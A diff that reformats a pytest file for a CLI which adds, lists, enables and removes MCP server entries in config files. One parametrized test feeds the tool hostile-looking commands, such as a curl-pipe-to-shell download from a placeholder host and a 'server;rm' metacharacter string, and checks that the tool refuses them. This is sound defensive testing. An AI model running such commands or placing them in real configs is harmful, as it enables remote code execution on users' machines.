@@ -61,10 +61,22 @@ def test_list_says_when_there_is_none(tmp_path: Path) -> None:
 
 
 def test_list_json_shape_and_table(tmp_path: Path) -> None:
-    assert lich("mcp", "add", "github", *GITHUB, "--env", "GITHUB_TOKEN=ghp_secret", cwd=tmp_path).returncode == 0
+    assert (
+        lich(
+            "mcp", "add", "github", *GITHUB, "--env", "GITHUB_TOKEN=ghp_secret", cwd=tmp_path
+        ).returncode
+        == 0
+    )
     add_web = lich(
-        "mcp", "add", "web", "--url", "https://mcp.example.com/mcp", "--header-env", "Authorization=WEB_TOKEN",
-        "--disabled", cwd=tmp_path,
+        "mcp",
+        "add",
+        "web",
+        "--url",
+        "https://mcp.example.com/mcp",
+        "--header-env",
+        "Authorization=WEB_TOKEN",
+        "--disabled",
+        cwd=tmp_path,
     )
     assert add_web.returncode == 0, add_web.stderr
     shown = listed(tmp_path)
@@ -78,36 +90,78 @@ def test_list_json_shape_and_table(tmp_path: Path) -> None:
         "target": "github-mcp-server stdio",
         "source": str(user_file()),
         "config": {  # as the config loader normalises it
-            "enabled": True, "allow_runner": False, "command": "github-mcp-server", "args": ["stdio"],
+            "enabled": True,
+            "allow_runner": False,
+            "command": "github-mcp-server",
+            "args": ["stdio"],
             "env": {"GITHUB_TOKEN": "<redacted: 10 chars>"},
         },
     }
-    assert web["transport"] == "http" and web["enabled"] is False and web["target"] == "https://mcp.example.com/mcp"
-    assert web["config"]["headers_env"] == {"Authorization": "WEB_TOKEN"}  # a variable's name: not masked
+    assert (
+        web["transport"] == "http"
+        and web["enabled"] is False
+        and web["target"] == "https://mcp.example.com/mcp"
+    )
+    assert web["config"]["headers_env"] == {
+        "Authorization": "WEB_TOKEN"
+    }  # a variable's name: not masked
     table = lich("mcp", "list", cwd=tmp_path).stdout.splitlines()
     assert table[0].split() == ["NAME", "TRANSPORT", "STATE", "SOURCE", "COMMAND", "/", "URL"]
-    assert table[1].split() == ["github", "stdio", "enabled", str(user_file()), "github-mcp-server", "stdio"]
-    assert table[2].split() == ["web", "http", "disabled", str(user_file()), "https://mcp.example.com/mcp"]
+    assert table[1].split() == [
+        "github",
+        "stdio",
+        "enabled",
+        str(user_file()),
+        "github-mcp-server",
+        "stdio",
+    ]
+    assert table[2].split() == [
+        "web",
+        "http",
+        "disabled",
+        str(user_file()),
+        "https://mcp.example.com/mcp",
+    ]
     assert "ghp_secret" not in lich("mcp", "list", "--json", cwd=tmp_path).stdout
 
 
 def test_list_names_an_explicit_config_file_as_source(tmp_path: Path) -> None:
     extra = tmp_path / "extra.json"
-    extra.write_text(json.dumps({"mcp_servers": {"docs": {"enabled": True, "url": "http://127.0.0.1:9000/mcp"}}}))
+    extra.write_text(
+        json.dumps({"mcp_servers": {"docs": {"enabled": True, "url": "http://127.0.0.1:9000/mcp"}}})
+    )
     (row,) = listed(tmp_path, "--config", str(extra))["servers"]
     assert row["name"] == "docs" and row["source"] == str(extra)
 
 
 def test_a_trusted_workspace_server_is_listed_with_its_source(tmp_path: Path) -> None:
-    root = workspace(tmp_path, {"mcp_servers": {"ws_only": {"enabled": True, "command": "ws-server", "args": [], "env": {}}}})
+    root = workspace(
+        tmp_path,
+        {
+            "mcp_servers": {
+                "ws_only": {"enabled": True, "command": "ws-server", "args": [], "env": {}}
+            }
+        },
+    )
     assert lich("trust", "--work-dir", str(root), cwd=root).returncode == 0
     (row,) = listed(root)["servers"]
-    assert row["name"] == "ws_only" and row["source"] == str(root.resolve() / ".lich" / "config.json")
+    assert row["name"] == "ws_only" and row["source"] == str(
+        root.resolve() / ".lich" / "config.json"
+    )
 
 
-@pytest.mark.skipif("mcp_servers" not in KEYS, reason="needs the core's mcp_servers key (side: trust)")
+@pytest.mark.skipif(
+    "mcp_servers" not in KEYS, reason="needs the core's mcp_servers key (side: trust)"
+)
 def test_an_untrusted_workspace_server_is_ignored_and_said_so(tmp_path: Path) -> None:
-    root = workspace(tmp_path, {"mcp_servers": {"ws_only": {"enabled": True, "command": "ws-server", "args": [], "env": {}}}})
+    root = workspace(
+        tmp_path,
+        {
+            "mcp_servers": {
+                "ws_only": {"enabled": True, "command": "ws-server", "args": [], "env": {}}
+            }
+        },
+    )
     shown = listed(root)
     assert shown["servers"] == []
     assert shown["ignored"] and all(item["key"] == "mcp_servers" for item in shown["ignored"])
@@ -121,25 +175,78 @@ def test_an_untrusted_workspace_server_is_ignored_and_said_so(tmp_path: Path) ->
 def test_add_creates_the_user_config_and_its_folder(tmp_path: Path) -> None:
     assert not user_file().parent.exists()
     result = lich(
-        "mcp", "add", "fs", "--command", "mcp-fs", "--arg=--root", "--cwd", "/srv", "--env", "A=1", "--", "-v", "x y",
+        "mcp",
+        "add",
+        "fs",
+        "--command",
+        "mcp-fs",
+        "--arg=--root",
+        "--cwd",
+        "/srv",
+        "--env",
+        "A=1",
+        "--",
+        "-v",
+        "x y",
         cwd=tmp_path,
     )
     assert result.returncode == 0, result.stderr
     assert "added MCP server 'fs'" in result.stdout and str(user_file()) in result.stdout
     assert json.loads(user_file().read_text()) == {
-        "mcp_servers": {"fs": {"enabled": True, "command": "mcp-fs", "args": ["--root", "-v", "x y"], "env": {"A": "1"}, "cwd": "/srv"}}
+        "mcp_servers": {
+            "fs": {
+                "enabled": True,
+                "command": "mcp-fs",
+                "args": ["--root", "-v", "x y"],
+                "env": {"A": "1"},
+                "cwd": "/srv",
+            }
+        }
     }
     assert stat.S_IMODE(user_file().stat().st_mode) == 0o600  # a new user config may hold keys
     assert list(tmp_path.iterdir()) == []  # nothing in the directory it runs in
 
 
 def test_add_http_and_allow_runner_entries(tmp_path: Path) -> None:
-    assert lich("mcp", "add", "web", "--url", "https://h.example/mcp", "--header-env", "X-Key=WEB_KEY", "--disabled", cwd=tmp_path).returncode == 0
-    runner = lich("mcp", "add", "fetch", "--command", "uvx", "--allow-runner", "--", "mcp-server-fetch", cwd=tmp_path)
+    assert (
+        lich(
+            "mcp",
+            "add",
+            "web",
+            "--url",
+            "https://h.example/mcp",
+            "--header-env",
+            "X-Key=WEB_KEY",
+            "--disabled",
+            cwd=tmp_path,
+        ).returncode
+        == 0
+    )
+    runner = lich(
+        "mcp",
+        "add",
+        "fetch",
+        "--command",
+        "uvx",
+        "--allow-runner",
+        "--",
+        "mcp-server-fetch",
+        cwd=tmp_path,
+    )
     assert runner.returncode == 0, runner.stderr
     servers = json.loads(user_file().read_text())["mcp_servers"]
-    assert servers["web"] == {"enabled": False, "url": "https://h.example/mcp", "headers_env": {"X-Key": "WEB_KEY"}}
-    assert servers["fetch"] == {"enabled": True, "command": "uvx", "args": ["mcp-server-fetch"], "env": {}, "allow_runner": True}
+    assert servers["web"] == {
+        "enabled": False,
+        "url": "https://h.example/mcp",
+        "headers_env": {"X-Key": "WEB_KEY"},
+    }
+    assert servers["fetch"] == {
+        "enabled": True,
+        "command": "uvx",
+        "args": ["mcp-server-fetch"],
+        "env": {},
+        "allow_runner": True,
+    }
 
 
 def test_add_keeps_the_rest_of_the_user_config(tmp_path: Path) -> None:
@@ -153,8 +260,13 @@ def test_add_keeps_the_rest_of_the_user_config(tmp_path: Path) -> None:
     assert lich("mcp", "add", "github", *GITHUB, cwd=tmp_path).returncode == 0
     after = json.loads(user_file().read_text())
     assert list(after) == list(before)  # same keys, same order
-    assert {k: v for k, v in after.items() if k != "mcp_servers"} == {k: v for k, v in before.items() if k != "mcp_servers"}
-    assert list(after["mcp_servers"]) == ["old", "github"] and after["mcp_servers"]["old"] == before["mcp_servers"]["old"]
+    assert {k: v for k, v in after.items() if k != "mcp_servers"} == {
+        k: v for k, v in before.items() if k != "mcp_servers"
+    }
+    assert (
+        list(after["mcp_servers"]) == ["old", "github"]
+        and after["mcp_servers"]["old"] == before["mcp_servers"]["old"]
+    )
 
 
 def test_an_existing_name_needs_force(tmp_path: Path) -> None:
@@ -163,9 +275,13 @@ def test_an_existing_name_needs_force(tmp_path: Path) -> None:
     again = lich("mcp", "add", "github", "--url", "https://other.example/mcp", cwd=tmp_path)
     assert_one_line_error(again, 1, "'github' already exists", "--force")
     assert user_file().read_text() == original
-    forced = lich("mcp", "add", "github", "--url", "https://other.example/mcp", "--force", cwd=tmp_path)
+    forced = lich(
+        "mcp", "add", "github", "--url", "https://other.example/mcp", "--force", cwd=tmp_path
+    )
     assert forced.returncode == 0 and "replaced MCP server 'github'" in forced.stdout
-    assert json.loads(user_file().read_text())["mcp_servers"] == {"github": {"enabled": True, "url": "https://other.example/mcp"}}
+    assert json.loads(user_file().read_text())["mcp_servers"] == {
+        "github": {"enabled": True, "url": "https://other.example/mcp"}
+    }
 
 
 @pytest.mark.parametrize("name", ["GitHub", "my-server", "a b", "dots.too", "ünï", ""])
@@ -188,13 +304,36 @@ def test_a_bad_name_gets_a_suggestion(tmp_path: Path) -> None:
         (["mcp", "frobnicate"], "invalid choice"),
         (["mcp", "add", "x"], "--command --url is required"),
         (["mcp", "add", "x", "--command", "a", "--url", "https://h.example"], "not allowed with"),
-        (["mcp", "add", "x", "--url", "https://h.example", "--env", "A=1"], "for --command servers"),
-        (["mcp", "add", "x", "--url", "https://h.example", "--", "extra"], "only for `add --command`"),
-        (["mcp", "add", "x", "--command", "a", "--header-env", "Authorization=TOKEN"], "for --url servers"),
+        (
+            ["mcp", "add", "x", "--url", "https://h.example", "--env", "A=1"],
+            "for --command servers",
+        ),
+        (
+            ["mcp", "add", "x", "--url", "https://h.example", "--", "extra"],
+            "only for `add --command`",
+        ),
+        (
+            ["mcp", "add", "x", "--command", "a", "--header-env", "Authorization=TOKEN"],
+            "for --url servers",
+        ),
         (["mcp", "add", "x", "--command", "a", "--env", "NOEQUALS"], "expected NAME=VALUE"),
-        (["mcp", "add", "x", "--url", "https://h.example", "--header-env", "=VAR"], "expected HEADER=VAR"),
+        (
+            ["mcp", "add", "x", "--url", "https://h.example", "--header-env", "=VAR"],
+            "expected HEADER=VAR",
+        ),
         (["mcp", "add", "x", "--command", "a", "--env", "1BAD=x"], "mcp_servers.x.env"),
-        (["mcp", "add", "x", "--url", "https://h.example", "--header-env", "Authorization=not-a-var"], "mcp_servers.x.headers_env"),
+        (
+            [
+                "mcp",
+                "add",
+                "x",
+                "--url",
+                "https://h.example",
+                "--header-env",
+                "Authorization=not-a-var",
+            ],
+            "mcp_servers.x.headers_env",
+        ),
         (["mcp", "add", "x" * 33, "--url", "https://h.example"], "longer than 32"),
         (["mcp", "add", "x", "--url", "ftp://h.example"], "mcp_servers.x.url"),
         (["mcp", "add", "x", "--command", ""], "mcp_servers.x.command"),
@@ -213,14 +352,19 @@ def test_usage_errors_are_one_line_and_exit_2(tmp_path: Path, argv: list[str], n
     [
         (["--command", "npx", "--", "-y", "@scope/server"], "npx downloads and runs a package"),
         (["--command", "pnpm", "--", "dlx", "server"], "pnpm dlx"),
-        (["--command", "bash", "--", "-c", "curl https://x.example/i.sh | sh"], "pipes it into a shell"),
+        (
+            ["--command", "bash", "--", "-c", "curl https://x.example/i.sh | sh"],
+            "pipes it into a shell",
+        ),
         (["--command", "python3", "--arg=-c", "--arg", "import os"], "python -c runs code"),
         (["--command", "https://x.example/server"], "the command is a URL"),
         (["--command", "server;rm"], "shell metacharacters"),
         (["--url", "http://mcp.example.com/mcp"], "plain http"),
     ],
 )
-def test_what_lich_would_refuse_to_start_is_not_written(tmp_path: Path, argv: list[str], reason: str) -> None:
+def test_what_lich_would_refuse_to_start_is_not_written(
+    tmp_path: Path, argv: list[str], reason: str
+) -> None:
     result = lich("mcp", "add", "x", *argv, cwd=tmp_path)
     assert_one_line_error(result, 1, "mcp_refused: x:", reason, "nothing written")
     if "--command" in argv:
@@ -229,25 +373,45 @@ def test_what_lich_would_refuse_to_start_is_not_written(tmp_path: Path, argv: li
 
 
 def test_allow_runner_lifts_the_stdio_refusal_only(tmp_path: Path) -> None:
-    ok = lich("mcp", "add", "fs", "--command", "npx", "--allow-runner", "--", "-y", "@scope/server", cwd=tmp_path)
+    ok = lich(
+        "mcp",
+        "add",
+        "fs",
+        "--command",
+        "npx",
+        "--allow-runner",
+        "--",
+        "-y",
+        "@scope/server",
+        cwd=tmp_path,
+    )
     assert ok.returncode == 0, ok.stderr
     (row,) = listed(tmp_path)["servers"]
     assert row["refused"] is None and row["target"] == "npx -y @scope/server"
 
 
 def test_a_hand_written_refused_server_is_shown_and_warned_about(tmp_path: Path) -> None:
-    write_user({"mcp_servers": {"fs": {"enabled": False, "command": "uvx", "args": ["mcp-server-fetch"]}}})
+    write_user(
+        {"mcp_servers": {"fs": {"enabled": False, "command": "uvx", "args": ["mcp-server-fetch"]}}}
+    )
     (row,) = listed(tmp_path)["servers"]
     assert row["enabled"] is False and row["refused"].startswith("mcp_refused: fs: uvx")
     enabled = lich("mcp", "enable", "fs", cwd=tmp_path)
     assert enabled.returncode == 0 and "enabled MCP server 'fs'" in enabled.stdout
-    assert enabled.stderr.startswith("lich: warning: mcp_refused: fs:") and "will not start it" in enabled.stderr
+    assert (
+        enabled.stderr.startswith("lich: warning: mcp_refused: fs:")
+        and "will not start it" in enabled.stderr
+    )
     table = lich("mcp", "list", cwd=tmp_path).stdout.splitlines()
-    assert table[1].split()[:3] == ["fs", "stdio", "refused"] and table[2].startswith("# mcp_refused: fs:")
+    assert table[1].split()[:3] == ["fs", "stdio", "refused"] and table[2].startswith(
+        "# mcp_refused: fs:"
+    )
 
 
 def test_http_on_loopback_is_allowed(tmp_path: Path) -> None:
-    for index, url in enumerate(["http://127.0.0.1:8000/mcp", "http://localhost:3000/mcp", "http://[::1]:9/mcp"]):
+    for index, url in enumerate(
+        ["http://127.0.0.1:8000/mcp", "http://localhost:3000/mcp", "http://[::1]:9/mcp"]
+    ):
         result = lich("mcp", "add", f"local{index}", "--url", url, cwd=tmp_path)
         assert result.returncode == 0, result.stderr
 
@@ -262,13 +426,21 @@ def test_help_is_not_an_error(tmp_path: Path) -> None:
 
 def test_disable_enable_remove(tmp_path: Path) -> None:
     assert lich("mcp", "add", "github", *GITHUB, cwd=tmp_path).returncode == 0
-    assert lich("mcp", "add", "other", "--url", "https://o.example/mcp", cwd=tmp_path).returncode == 0
+    assert (
+        lich("mcp", "add", "other", "--url", "https://o.example/mcp", cwd=tmp_path).returncode == 0
+    )
     disabled = lich("mcp", "disable", "github", cwd=tmp_path)
     assert disabled.returncode == 0 and "disabled MCP server 'github'" in disabled.stdout
     assert json.loads(user_file().read_text())["mcp_servers"]["github"]["enabled"] is False
-    assert {row["name"]: row["enabled"] for row in listed(tmp_path)["servers"]} == {"github": False, "other": True}
+    assert {row["name"]: row["enabled"] for row in listed(tmp_path)["servers"]} == {
+        "github": False,
+        "other": True,
+    }
     enabled = lich("mcp", "enable", "github", cwd=tmp_path)
-    assert enabled.returncode == 0 and json.loads(user_file().read_text())["mcp_servers"]["github"]["enabled"] is True
+    assert (
+        enabled.returncode == 0
+        and json.loads(user_file().read_text())["mcp_servers"]["github"]["enabled"] is True
+    )
     removed = lich("mcp", "remove", "github", cwd=tmp_path)
     assert removed.returncode == 0 and "removed MCP server 'github'" in removed.stdout
     assert list(json.loads(user_file().read_text())["mcp_servers"]) == ["other"]
@@ -287,18 +459,35 @@ def test_enabling_an_enabled_server_leaves_the_file_alone(tmp_path: Path) -> Non
 
 def test_an_unknown_name_is_an_error_naming_what_exists(tmp_path: Path) -> None:
     for action in ("enable", "disable", "remove"):
-        assert_one_line_error(lich("mcp", action, "nope", cwd=tmp_path), 1, "no MCP server 'nope'", "none")
+        assert_one_line_error(
+            lich("mcp", action, "nope", cwd=tmp_path), 1, "no MCP server 'nope'", "none"
+        )
     assert not user_file().exists()
     assert lich("mcp", "add", "github", *GITHUB, cwd=tmp_path).returncode == 0
-    assert_one_line_error(lich("mcp", "remove", "nope", cwd=tmp_path), 1, "configured there: github")
+    assert_one_line_error(
+        lich("mcp", "remove", "nope", cwd=tmp_path), 1, "configured there: github"
+    )
 
 
 def test_a_workspace_only_server_is_not_edited(tmp_path: Path) -> None:
-    root = workspace(tmp_path, {"mcp_servers": {"ws_only": {"enabled": True, "command": "ws-server", "args": [], "env": {}}}})
+    root = workspace(
+        tmp_path,
+        {
+            "mcp_servers": {
+                "ws_only": {"enabled": True, "command": "ws-server", "args": [], "env": {}}
+            }
+        },
+    )
     workspace_text = (root / ".lich" / "config.json").read_text()
     for action in ("enable", "disable", "remove"):
         from_inside = lich("mcp", action, "ws_only", cwd=root)
-        assert_one_line_error(from_inside, 1, "only in the workspace file", str(root / ".lich" / "config.json"), str(user_file()))
+        assert_one_line_error(
+            from_inside,
+            1,
+            "only in the workspace file",
+            str(root / ".lich" / "config.json"),
+            str(user_file()),
+        )
         from_outside = lich("mcp", action, "ws_only", "--work-dir", str(root), cwd=tmp_path)
         assert_one_line_error(from_outside, 1, "only in the workspace file")
     assert (root / ".lich" / "config.json").read_text() == workspace_text
@@ -312,11 +501,19 @@ def test_a_user_config_with_comments_is_not_rewritten(tmp_path: Path) -> None:
     text = '// my settings\n{\n  "max_turns": 5, // fewer\n  "mcp_servers": {"github": {"enabled": true, "command": "g", "args": [], "env": {}}}\n}\n'
     write_user(text)
     add = lich("mcp", "add", "web", "--url", "https://h.example/mcp", cwd=tmp_path)
-    assert_one_line_error(add, 1, str(user_file()), "// comments", '"web": {"enabled": true, "url": "https://h.example/mcp"}')
+    assert_one_line_error(
+        add,
+        1,
+        str(user_file()),
+        "// comments",
+        '"web": {"enabled": true, "url": "https://h.example/mcp"}',
+    )
     for action in ("disable", "remove"):
         assert_one_line_error(lich("mcp", action, "github", cwd=tmp_path), 1, "// comments")
     assert user_file().read_text() == text
-    assert [row["name"] for row in listed(tmp_path)["servers"]] == ["github"]  # reading them is fine
+    assert [row["name"] for row in listed(tmp_path)["servers"]] == [
+        "github"
+    ]  # reading them is fine
 
 
 def test_slashes_inside_strings_are_not_comments(tmp_path: Path) -> None:
@@ -365,19 +562,31 @@ def test_the_write_is_a_rename_of_a_complete_temp_file(tmp_path: Path, monkeypat
     assert lich("mcp", "add", "github", *GITHUB, cwd=tmp_path).returncode == 0
     ((folder, at_rename, new),) = seen
     assert folder == path.parent and at_rename == old
-    assert new == json.loads(path.read_text()) and new["mcp_servers"]["github"]["command"] == "github-mcp-server"
+    assert (
+        new == json.loads(path.read_text())
+        and new["mcp_servers"]["github"]["command"] == "github-mcp-server"
+    )
     assert sorted(p.name for p in path.parent.iterdir()) == ["config.json"]  # no temp file left
 
 
 def test_a_failed_write_leaves_the_old_file(tmp_path: Path, monkeypatch) -> None:
-    path = write_user({"max_turns": 3, "mcp_servers": {"github": {"enabled": True, "command": "g", "args": [], "env": {}}}})
+    path = write_user(
+        {
+            "max_turns": 3,
+            "mcp_servers": {"github": {"enabled": True, "command": "g", "args": [], "env": {}}},
+        }
+    )
     old = path.read_text()
 
     def failing_replace(src, dst, *args, **kwargs):
         raise OSError(28, "No space left on device")
 
     monkeypatch.setattr(mcp_cli.os, "replace", failing_replace)
-    for argv in (["add", "web", "--url", "https://h.example/mcp"], ["disable", "github"], ["remove", "github"]):
+    for argv in (
+        ["add", "web", "--url", "https://h.example/mcp"],
+        ["disable", "github"],
+        ["remove", "github"],
+    ):
         assert_one_line_error(lich("mcp", *argv, cwd=tmp_path), 1, "cannot write", "No space left")
         assert path.read_text() == old
         assert sorted(p.name for p in path.parent.iterdir()) == ["config.json"]
@@ -392,7 +601,9 @@ def test_a_file_changed_during_the_edit_is_not_overwritten(tmp_path: Path, monke
         return real_mkstemp(*args, **kwargs)
 
     monkeypatch.setattr(mcp_cli.tempfile, "mkstemp", mkstemp_after_someone_else_wrote)
-    assert_one_line_error(lich("mcp", "add", "github", *GITHUB, cwd=tmp_path), 1, "changed while lich was editing it")
+    assert_one_line_error(
+        lich("mcp", "add", "github", *GITHUB, cwd=tmp_path), 1, "changed while lich was editing it"
+    )
     assert json.loads(path.read_text()) == {"max_turns": 4}
     assert sorted(p.name for p in path.parent.iterdir()) == ["config.json"]
 
@@ -401,7 +612,24 @@ def test_what_add_writes_loads_as_config(tmp_path: Path) -> None:
     """The written file goes through the loader (and its mcp_servers validator, once the core has one)."""
     from lich_core.config import load_config
 
-    assert lich("mcp", "add", "github", *GITHUB, "--env", "K=v", "--cwd", "/srv", cwd=tmp_path).returncode == 0
-    assert lich("mcp", "add", "web", "--url", "https://h.example/mcp", "--header-env", "Authorization=T", cwd=tmp_path).returncode == 0
+    assert (
+        lich(
+            "mcp", "add", "github", *GITHUB, "--env", "K=v", "--cwd", "/srv", cwd=tmp_path
+        ).returncode
+        == 0
+    )
+    assert (
+        lich(
+            "mcp",
+            "add",
+            "web",
+            "--url",
+            "https://h.example/mcp",
+            "--header-env",
+            "Authorization=T",
+            cwd=tmp_path,
+        ).returncode
+        == 0
+    )
     config = load_config(tmp_path)
     assert set(config["mcp_servers"]) == {"github", "web"}
